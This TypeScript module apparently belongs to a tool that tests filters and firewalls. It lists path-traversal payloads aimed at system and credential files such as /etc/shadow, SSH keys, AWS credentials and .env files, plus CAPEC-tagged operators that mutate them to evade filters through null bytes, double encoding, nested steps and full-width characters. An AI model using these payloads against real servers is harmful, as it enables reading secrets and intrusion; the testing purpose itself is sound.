import { commonEncodings, overlong } from '../encodings.ts';
import { type EvasionClass, encoding, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  '../../../../etc/passwd',
  '../../../etc/shadow',
  '../../../../../../proc/self/environ',
  '..\\..\\..\\windows\\win.ini',
  '../../../../boot.ini',
  '/etc/passwd',
  '/var/www/html/../../../etc/hosts',
  'file:///etc/passwd',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  '../../.ssh/id_rsa',
  '../../../../root/.bash_history',
  '../../../WEB-INF/web.xml',
  'images/../../../../etc/group',
  '../../../../var/log/apache2/access.log',
  'php://filter/convert.base64-encode/resource=index.php',
  '..\\..\\..\\..\\inetpub\\wwwroot\\web.config',
  '../../.aws/credentials',
  '../../.env',
];

/** Payloads that climb by slashes. */
function climbs(payload: string): boolean {
  return payload.includes('../');
}

/** `./` steps nowhere. */
const dotSteps: Operator = syntax('dot-steps', 'CAPEC-126 fillers', (payload, random) =>
  climbs(payload) ? payload.replaceAll('../', () => `..${random.pick(['/./', '/././', '/'])}`) : null,
);

/** Slashes in a row are one. */
const doubleSlashes: Operator = syntax('double-slashes', 'CAPEC-126 fillers', (payload, random) =>
  payload.includes('://') ? null : payload.replaceAll('/', () => random.pick(['//', '///', '/'])),
);

/** A step into a directory and out again. */
const detour: Operator = syntax('detour', 'CAPEC-126 fillers', (payload, random) =>
  climbs(payload)
    ? payload.replaceAll('../', () => (random.below(2) === 0 ? `../${random.word(4)}/../` : '../'))
    : null,
);

/** Windows takes both slashes. */
const otherSlash: Operator = syntax('other-slash', 'CAPEC-76 alternative separators', (payload, random) =>
  payload.includes('://') || payload.startsWith('/')
    ? null
    : payload.replaceAll(/[\\/]/g, () => random.pick(['\\', '/'])),
);

/** A null byte ends the name for C, and hides the extension that a program appends or demands. */
const nullByte: Operator = syntax(
  'null-byte',
  'CAPEC-52 embedded null',
  (payload, random) => `${payload}\0${random.pick(['.jpg', '.png', '.html', ''])}`,
);

/** The same, still escaped. */
const escapedNull: Operator = encoding(
  'escaped-null',
  'CAPEC-52 embedded null',
  1,
  (payload, random) => `${payload}%00${random.pick(['.jpg', '.pdf'])}`,
);

/** Tomcat drops path parameters before it resolves the steps. */
const pathParameters: Operator = syntax('path-parameters', 'CAPEC-126 path parameters', (payload, random) =>
  climbs(payload) && !payload.includes('...')
    ? payload.replaceAll('../', () => `..;${random.pick(['', 'a=1'])}/`)
    : null,
);

/** What is left after a filter has taken `../` out once. */
const nestedSteps: Operator = syntax('nested-steps', 'CAPEC-126 filter that removes once', (payload, random) =>
  climbs(payload) ? payload.replaceAll('../', () => random.pick(['....//', '..././'])) : null,
);

/** Names of Windows have no case. */
const windowsCase: Operator = syntax('windows-case', 'CAPEC-66 mixed case', (payload, random) =>
  payload.includes('\\')
    ? payload.replaceAll(/[a-z]/gi, (letter) => (random.below(2) === 0 ? letter.toUpperCase() : letter.toLowerCase()))
    : null,
);

/** A directory of the application in front. */
const junkPrefix: Operator = syntax('junk-prefix', 'CAPEC-126 padding', (payload, random) =>
  climbs(payload) && !payload.startsWith('/')
    ? `${random.pick(['static', 'files', random.word(5)])}/${random.word(4)}/../${payload}`
    : null,
);

/** The end that a program demands, as a part of a URL that is no part of the path; PHP also skips a step to the file itself. */
const demandedEnd: Operator = syntax('demanded-end', 'CAPEC-126 suffixes', (payload, random) => {
  if (payload.includes('\\')) return null;
  return (
    payload + (payload.includes('://') ? random.pick(['?.jpg', '#.png']) : random.pick(['?x=1', '?.jpg', '/.', '/./.']))
  );
});

/** More steps than there are directories end at the root. */
const moreSteps: Operator = syntax('more-steps', 'CAPEC-126 padding', (payload, random) =>
  payload.startsWith('../') ? '../'.repeat(1 + random.below(24)) + payload : null,
);

/** Escaped twice, but for the letters of hexadecimal digits: `%25%32%65`. */
const digitsTwice: Operator = encoding('digits-twice', 'CAPEC-120 double encoding', 2, (payload) =>
  payload.replaceAll(
    /[./\\]/g,
    (mark) =>
      `%25${[...mark.charCodeAt(0).toString(16)].map((digit) => `%${digit.charCodeAt(0).toString(16)}`).join('')}`,
  ),
);

/** Dots and slashes of full width, which normalisation folds. */
const fullWidth: Operator = encoding('full-width', 'CAPEC-71 full-width look-alikes', 0, (payload) =>
  climbs(payload) ? payload.replaceAll('.', '\uff0e').replaceAll('/', '\uff0f') : null,
);

/** The dots alone escaped. */
const dotsAlone: Operator = encoding('dots-alone', 'CAPEC-64 partial URL encoding', 1, (payload, random) =>
  payload.replaceAll('.', () => random.pick(['%2e', '%2E', '.'])),
);

/** Path traversal and reading of files by their names. */
export const traversal: EvasionClass = {
  id: 'traversal',
  payloads,
  operators: [
    dotSteps,
    doubleSlashes,
    detour,
    otherSlash,
    nullByte,
    escapedNull,
    pathParameters,
    nestedSteps,
    windowsCase,
    junkPrefix,
    demandedEnd,
    moreSteps,
    digitsTwice,
    fullWidth,
    dotsAlone,
    overlong,
    ...commonEncodings,
  ],
};
